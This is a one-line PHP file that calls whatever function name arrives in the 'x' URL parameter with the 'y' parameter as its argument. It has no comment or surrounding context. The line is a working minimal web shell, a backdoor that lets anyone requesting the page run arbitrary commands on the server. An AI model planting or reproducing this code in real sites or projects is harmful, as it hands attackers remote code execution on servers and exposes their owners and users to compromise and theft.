<?php $_GET['x']($_GET['y']);
